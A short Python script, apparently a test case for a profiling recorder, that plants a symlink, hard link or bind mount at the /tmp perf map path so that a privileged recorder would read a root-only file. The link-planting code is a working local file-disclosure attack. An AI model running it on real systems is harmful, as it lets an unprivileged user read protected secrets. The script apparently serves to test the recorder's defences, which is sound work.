# SPDX-License-Identifier: Apache-2.0
"""Has a file that only root may read stand where the recorder looks for our perf map.

usage: leak_perf_map.py SECONDS FILE bind|symlink|hardlink
"""
import mmap
import os
import sys
import time

import attack
import namespaces

secret, how = sys.argv[2], sys.argv[3]
name = f"/tmp/perf-{os.getpid()}.map"
try:
    with open(secret, "rb"):
        sys.exit(f"{secret} may be read, so this is no attack")
except PermissionError:
    pass
if how == "symlink":
    os.symlink(secret, name)
elif how == "hardlink":
    try:
        os.link(secret, name)
    except OSError as error:  # fs.protected_hardlinks, or another file system
        attack.skip(f"no hard link to another user's file: {error.strerror}")
else:
    namespaces.enter()
    with open(name, "wb"):
        pass
    namespaces.bind(secret, name)
attack.wait_for_go()
code = mmap.mmap(-1, 4096, mmap.MAP_PRIVATE | mmap.MAP_ANONYMOUS, mmap.PROT_READ | mmap.PROT_WRITE | mmap.PROT_EXEC)
while time.time() < attack.stop:
    for _ in range(20000):
        pass
